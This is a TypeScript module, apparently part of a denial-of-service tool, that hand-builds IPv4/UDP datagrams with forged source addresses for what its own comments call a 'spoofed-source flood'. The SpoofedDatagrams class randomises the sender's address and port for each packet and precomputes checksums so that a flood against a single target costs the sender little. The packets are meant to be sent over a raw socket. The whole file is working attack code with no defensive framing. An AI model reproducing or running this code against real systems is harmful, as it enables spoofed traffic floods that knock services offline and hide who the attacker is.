/**
 * Hand-built IPv4 + UDP datagrams (with checksums) for the spoofed-source flood.
 *
 * @module
 */

/** The Internet checksum (RFC 1071) of `data`, continuing from `initial`. */
export function checksum(data: Uint8Array, initial = 0): number {
  let sum = initial;
  const n = data.length & ~1;
  for (let i = 0; i < n; i += 2) sum += (data[i]! << 8) | data[i + 1]!;
  if (data.length & 1) sum += data[data.length - 1]! << 8;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** Addresses and ports of one datagram; addresses as 32-bit numbers. */
export interface UdpHeaderFields {
  src: number;
  dst: number;
  srcPort: number;
  dstPort: number;
  ttl?: number;
  id?: number;
}

/** Builds a complete IPv4 packet (20-byte header, no options) carrying a UDP datagram. */
export function buildIPv4Udp(f: UdpHeaderFields, payload: Uint8Array): Uint8Array {
  const udpLen = 8 + payload.length;
  const total = 20 + udpLen;
  if (total > 0xffff) throw new RangeError(`datagram of ${total} bytes exceeds 65535`);
  const pkt = new Uint8Array(total);
  const v = new DataView(pkt.buffer);
  pkt[0] = 0x45;
  v.setUint16(2, total);
  v.setUint16(4, f.id ?? 0);
  v.setUint16(6, 0x4000); // don't fragment
  pkt[8] = f.ttl ?? 64;
  pkt[9] = 17;
  v.setUint32(12, f.src >>> 0);
  v.setUint32(16, f.dst >>> 0);
  v.setUint16(10, checksum(pkt.subarray(0, 20)));
  v.setUint16(20, f.srcPort);
  v.setUint16(22, f.dstPort);
  v.setUint16(24, udpLen);
  pkt.set(payload, 28);
  // Pseudo-header: src, dst, zero, protocol, UDP length.
  let pseudo = (f.src >>> 16) + (f.src & 0xffff) + (f.dst >>> 16) + (f.dst & 0xffff) + 17 +
    udpLen;
  while (pseudo > 0xffff) pseudo = (pseudo & 0xffff) + (pseudo >>> 16);
  const sum = checksum(pkt.subarray(20), pseudo);
  v.setUint16(26, sum === 0 ? 0xffff : sum);
  return pkt;
}

/** The one's-complement sum of `data` as 16-bit big-endian words, folded to 16 bits (not inverted). */
function partialSum(data: Uint8Array): number {
  return ~checksum(data) & 0xffff;
}

/**
 * Spoofed IPv4/UDP datagrams to one destination, for a flood that must cost
 * its sender little: `slots` packets laid out back to back in `into` (one
 * slot each, `slot` bytes apart), their constant header fields written once;
 * {@link SpoofedDatagrams.fill} then patches only the source address and port,
 * the payload (from a pool made up front) and the UDP checksum (from the
 * payload's precomputed sum). The IP header checksum and id are left zero: a
 * raw socket with IP_HDRINCL has the kernel fill them in (raw(7)).
 */
export class SpoofedDatagrams {
  readonly length: number;
  #pool: Uint8Array[];
  #poolSums: number[];
  #next = 0;
  #constantSum: number;
  #base: number;
  #hosts: number;
  #random = new Uint32Array(0);

  /** `spoof`: sources are random hosts of this network, ports random from 1024 up. */
  constructor(
    readonly dst: number,
    readonly dstPort: number,
    spoof: { address: number; prefix: number },
    pool: Uint8Array[],
  ) {
    const size = pool[0]?.length ?? 0;
    if (pool.length === 0 || pool.some((p) => p.length !== size)) {
      throw new RangeError("the payload pool needs payloads of one length");
    }
    this.length = 28 + size;
    this.#base = spoof.prefix === 0 ? 0 : (spoof.address & (~0 << (32 - spoof.prefix))) >>> 0;
    this.#hosts = Math.max(1, 2 ** (32 - spoof.prefix) - 2);
    this.#pool = pool;
    this.#poolSums = pool.map(partialSum);
    const udpLen = 8 + size;
    // Pseudo-header (destination, protocol, UDP length) and UDP header (port, length).
    this.#constantSum = (dst >>> 16) + (dst & 0xffff) + 17 + udpLen + dstPort + udpLen;
  }

  /** Writes the constant fields of every slot (call once per buffer). */
  prepare(into: Uint8Array, slots: number, slot: number): void {
    for (let i = 0; i < slots; i++) {
      const p = into.subarray(i * slot, i * slot + this.length);
      p.set(
        buildIPv4Udp({ src: 0, dst: this.dst, srcPort: 0, dstPort: this.dstPort }, this.#pool[0]!),
      );
      p[4] =
        p[5] =
        p[10] =
        p[11] =
          0; // id and header checksum: the kernel's
    }
  }

  /** Makes the first `count` slots fresh datagrams, each from a new random source. */
  fill(into: Uint8Array, count: number, slot: number): void {
    const pool = this.#pool, sums = this.#poolSums;
    if (this.#random.length < 2 * count) this.#random = new Uint32Array(2 * count);
    const random = crypto.getRandomValues(this.#random.subarray(0, 2 * count));
    for (let i = 0; i < count; i++) {
      const at = i * slot;
      const j = this.#next;
      this.#next = j + 1 === pool.length ? 0 : j + 1;
      const s = (this.#base + 1 + (random[2 * i]! % this.#hosts)) >>> 0;
      const port = 1024 + (random[2 * i + 1]! % 64512);
      into[at + 12] = s >>> 24;
      into[at + 13] = (s >>> 16) & 0xff;
      into[at + 14] = (s >>> 8) & 0xff;
      into[at + 15] = s & 0xff;
      into[at + 20] = port >>> 8;
      into[at + 21] = port & 0xff;
      into.set(pool[j]!, at + 28);
      let sum = this.#constantSum + sums[j]! + (s >>> 16) + (s & 0xffff) + port;
      while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
      const c = ~sum & 0xffff;
      const udpSum = c === 0 ? 0xffff : c;
      into[at + 26] = udpSum >>> 8;
      into[at + 27] = udpSum & 0xff;
    }
  }
}
